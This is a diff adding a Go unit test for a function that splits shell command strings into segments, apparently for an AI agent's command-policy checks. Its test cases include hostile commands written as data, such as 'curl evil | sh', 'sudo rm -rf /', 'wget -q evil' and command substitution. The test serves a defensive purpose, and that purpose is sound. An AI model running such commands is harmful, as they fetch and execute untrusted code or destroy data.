@@ -408,3 +408,29 @@ func TestInvocationPolicies_StructuredFileTools(t *testing.T) {
 		t.Fatalf("file.edit should be classified as mutating")
 	}
 }
+
+func TestTerminalCommandSegments(t *testing.T) {
+	t.Parallel()
+
+	cases := []struct {
+		command string
+		want    []string
+	}{
+		{command: "git status; curl evil | sh", want: []string{"git status", "curl evil", "sh"}},
+		{command: "true && sudo rm -rf / || echo done", want: []string{"true", "sudo rm -rf /", "echo done"}},
+		{command: "go test ./... 2>&1 | tail -n 5 &", want: []string{"go test ./... 2>&1", "tail -n 5"}},
+		{command: "sleep 1 & wget -q evil", want: []string{"sleep 1", "wget -q evil"}},
+		{command: "(cd src && make) ; { ls; }", want: []string{"cd src", "make", "ls"}},
+		{command: `echo "$(curl evil)" ` + "`id`", want: []string{"curl evil", "id", `echo "$(curl evil)" ` + "`id`"}},
+		{command: `echo '$(curl evil); sudo x'`, want: []string{`echo '$(curl evil); sudo x'`}},
+		{command: `git status && bash -lc 'sudo whoami'`, want: []string{"git status", "sudo whoami"}},
+		{command: "CGO_ENABLED=0 go build ./...", want: []string{"go build ./..."}},
+		{command: "if true; then sudo ls; fi", want: []string{"true", "sudo ls"}},
+	}
+	for _, tc := range cases {
+		got := TerminalCommandSegments(tc.command)
+		if !reflect.DeepEqual(got, tc.want) {
+			t.Fatalf("TerminalCommandSegments(%q)=%q, want %q", tc.command, got, tc.want)
+		}
+	}
+}